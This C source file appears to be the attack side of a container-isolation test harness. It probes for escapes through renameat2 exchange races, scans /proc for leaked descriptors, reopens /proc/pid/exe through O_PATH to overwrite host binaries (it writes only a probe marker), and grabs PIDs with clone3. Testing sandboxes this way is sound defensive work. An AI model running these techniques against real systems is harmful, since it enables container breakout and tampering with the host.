/* Commands of an attacker in a container, or beside one: whatever they reach is a finding. They
 * look again and again, for as long as the caller says. Must not know what is allowed. */
#include "sys.h"
#include <asm/ioctls.h>
#include <linux/sched.h>
#include <linux/signal.h>
#include <linux/time.h>
#include <linux/wait.h>

enum { EXCHANGE = 2, WANTED = STATX_BASIC_STATS | STATX_MNT_ID };

/* Exchange two names, again and again, until killed. */
void attack_exchange(char **words, int count)
{
    (void)count;
    long result = SYS(renameat2, AT_FDCWD_, words[0], AT_FDCWD_, words[1], EXCHANGE);
    print("ready: %s\n", errno_name(result));
    while (result >= 0) SYS(renameat2, AT_FDCWD_, words[0], AT_FDCWD_, words[1], EXCHANGE);
}

static int join(char *to, int room, const char *const *parts)
{
    int n = 0;
    for (; *parts; parts++)
        for (const char *p = *parts; *p && n < room - 1; p++) to[n++] = *p;
    to[n] = 0;
    return n;
}

/* Call `look` for each entry of the directory whose name is a number. */
static void each_number(const char *path, void (*look)(const char *, const char *))
{
    char entries[4096];
    long fd = SYS(openat, AT_FDCWD_, path, O_RDONLY | O_DIRECTORY | O_CLOEXEC), got;
    while (fd >= 0 && (got = SYS(getdents64, fd, entries, sizeof entries)) > 0)
        for (long at = 0; at < got; at += *(unsigned short *)(entries + at + 16)) {
            const char *name = entries + at + 19;
            if (*name >= '0' && *name <= '9') look(path, name);
        }
    if (fd >= 0) SYS(close, fd);
}

static long seen;

/* Report a file or directory that another process has open, which could be a way out of the
 * container; pipes and sockets could not. */
static void look_fd(const char *path, const char *name)
{
    char link[128], target[512];
    join(link, sizeof link, (const char *const[]){ path, "/", name, 0 });
    long n = SYS(readlinkat, AT_FDCWD_, link, target, sizeof target - 1);
    seen++;
    if (n < 0) return;
    target[n] = 0;
    struct statx s, own;
    long fd = number(name);
    if (fd < 3 || SYS(statx, AT_FDCWD_, link, 0, WANTED, &s) < 0) return;
    /* A file that can be opened by its name anyway is not a finding. */
    if (SYS(statx, AT_FDCWD_, target, AT_SYMLINK_NOFOLLOW, WANTED, &own) == 0 &&
        own.stx_ino == s.stx_ino && own.stx_mnt_id == s.stx_mnt_id)
        return;
    long kind = s.stx_mode & S_IFMT;
    if (kind != S_IFREG && kind != S_IFDIR) return;
    /* The number may be another file's by now, which another turn looks at. */
    char again[512];
    if (SYS(readlinkat, AT_FDCWD_, link, again, sizeof again - 1) != n) return;
    for (long at = 0; at < n; at++)
        if (again[at] != target[at]) return;
    print("leak: %s %s\n", link, target);
}

static void look_process(const char *path, const char *name)
{
    char dir[64];
    if (number(name) == SYS(getpid)) return;
    join(dir, sizeof dir, (const char *const[]){ path, "/", name, "/fd", 0 });
    each_number(dir, look_fd);
}

static void look_exe(const char *path, const char *name)
{
    char exe[64];
    join(exe, sizeof exe, (const char *const[]){ path, "/", name, "/exe", 0 });
    if (number(name) == SYS(getpid)) return;
    /* A running program cannot be opened for writing, but an O_PATH descriptor can be reopened for
     * writing once the program has ended. */
    long fd = SYS(openat, AT_FDCWD_, exe, O_PATH | O_CLOEXEC);
    if (fd < 0) return;
    seen++;
    char own[48] = "/proc/self/fd/", digits[2] = { 0 };
    for (long rest = fd, unit = 100; unit; rest %= unit, unit /= 10)
        if (fd >= unit) {
            digits[0] = (char)('0' + rest / unit);
            join(own + length(own), 8, (const char *const[]){ digits, 0 });
        }
    for (int turn = 0; turn < 64; turn++) {
        long written = SYS(openat, AT_FDCWD_, own, O_WRONLY | O_CLOEXEC);
        if (written < 0) continue;
        if (SYS(write, written, "#!/probe\n", 9) > 0) print("wrote: %s\n", exe);
        SYS(close, written);
    }
    SYS(close, fd);
}

static void look_for(char **words, void (*look)(const char *, const char *))
{
    word end = now_us(CLOCK_MONOTONIC) + (word)number(words[0]) * 1000;
    print("ready: looking\n");
    while (now_us(CLOCK_MONOTONIC) < end) each_number("/proc", look);
    print("seen: %ld\n", seen);
}

void attack_fds(char **words, int count)
{
    (void)count;
    look_for(words, look_process);
}

void attack_exe(char **words, int count)
{
    (void)count;
    look_for(words, look_exe);
}

/* Make a child with this pid, which must be free (clone3 with set_tid, Linux 5.5); print "ready:"
 * when it runs. */
void attack_pid(char **words, int count)
{
    (void)count;
    int wanted = (int)number(words[0]), status;
    struct clone_args args = { 0 };
    args.exit_signal = SIGCHLD;
    args.set_tid = (word)&wanted;
    args.set_tid_size = 1;
    long pid = SYS(clone3, &args, sizeof args);
    if (pid == 0)
        for (;;) SYS(ppoll, 0, 0, 0, 0, 8);
    print("ready: %s\n", pid < 0 ? errno_name(pid) : "as that pid");
    if (pid > 0 && SYS(wait4, pid, &status, __WALL, 0) > 0) print("ended: %ld\n", (long)status);
}
